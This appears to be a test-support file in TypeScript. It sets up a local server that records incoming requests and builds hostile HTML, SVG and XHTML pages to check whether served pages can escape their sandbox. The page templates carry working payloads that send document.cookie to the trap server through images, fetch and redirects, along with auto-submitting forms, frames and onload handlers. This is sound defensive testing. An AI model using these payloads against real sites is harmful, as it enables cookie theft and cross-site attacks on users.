/** A server that agent-written pages call when they manage to do anything, and such pages. */

import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";

export class Trap {
  /** Path and query of what came in, but for what a test's own pages ask for. */
  readonly caught: string[] = [];
  readonly #server: Server = createServer((request, answer) => {
    this.caught.push(request.url ?? "");
    answer.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/html" });
    answer.end("<title>caught</title>");
  });

  get url(): string {
    return `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}`;
  }

  async start(): Promise<this> {
    await new Promise<void>((resolve) => this.#server.listen(0, "127.0.0.1", resolve));
    return this;
  }

  async stop(): Promise<void> {
    this.#server.closeAllConnections();
    await new Promise((resolve) => this.#server.close(resolve));
  }
}

export interface Hostile {
  path: string;
  mediaType: string;
  content: string;
  /** Of a type that browsers show: it is one only by name. */
  isShown: boolean;
}

/** What tries everything that a page can do to get out of itself: scripts, requests, frames, forms, redirects. */
export function hostileFiles(trap: string): Hostile[] {
  const file = (name: string, mediaType: string, write: Writing, isShown = false): Hostile => {
    return { path: `/${name}`, mediaType, content: write(`${trap}/${name}`), isShown };
  };
  return [
    file("report.html", "text/html", html),
    file("picture.svg", "image/svg+xml", svg),
    file("report.xhtml", "application/xhtml+xml", xhtml),
    file("feed.xml", "text/xml", svg),
    file("unnamed", "application/octet-stream", html, true),
    file("html.txt", "text/plain", html, true),
    file("html.png", "image/png", html, true),
  ];
}

type Writing = (trap: string) => string;

function script(trap: string): string {
  return `
    const cookie = "?cookie=" + encodeURIComponent(document.cookie), out = "${trap}/script" + cookie;
    document.documentElement.setAttribute("title", "ran");
    new Image().src = out; fetch(out, { mode: "no-cors" }); navigator.sendBeacon("${trap}/beacon");
    try { parent.document.title = "reached"; top.location.href = "${trap}/top" + cookie; } catch {}
    window.open("${trap}/opened"); location.href = "${trap}/location" + cookie;`;
}

function html(trap: string): string {
  return `<!doctype html><html><head><title>a report</title><base href="${trap}/base/">
    <meta http-equiv="refresh" content="0;url=${trap}/refresh">
    <link rel="stylesheet" href="${trap}/style"><link rel="preload" as="image" href="${trap}/preload">
    <script>${script(trap)}</script><script src="${trap}/source"></script></head>
    <body onload="fetch('${trap}/onload')" style="background: url(${trap}/background)">
    <img src="${trap}/image" onerror="fetch('${trap}/onerror')" alt="">
    <iframe src="${trap}/frame"></iframe><iframe srcdoc="<script>fetch('${trap}/srcdoc')</script>"></iframe>
    <object data="${trap}/object"></object><embed src="${trap}/embed"><video src="${trap}/video"></video>
    <form id="f" action="${trap}/form"><input autofocus onfocus="f.submit()"></form>
    <svg onload="fetch('${trap}/svg-in-html')"></svg></body></html>`;
}

function svg(trap: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
    onload="fetch('${trap}/svg-onload')"><script>${escaped(script(trap))}</script>
    <image href="${trap}/svg-image"/><use xlink:href="${trap}/svg-use#a"/><foreignObject>
    <iframe xmlns="http://www.w3.org/1999/xhtml" src="${trap}/svg-frame"></iframe></foreignObject>
    <style>@import url(${trap}/svg-style);</style></svg>`;
}

function xhtml(trap: string): string {
  return `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>a report</title>
    <script>${escaped(script(trap))}</script></head>
    <body><img src="${trap}/image" alt=""/></body></html>`;
}

function escaped(text: string): string {
  return text.replaceAll("&", "&amp;").replaceAll("<", "&lt;");
}
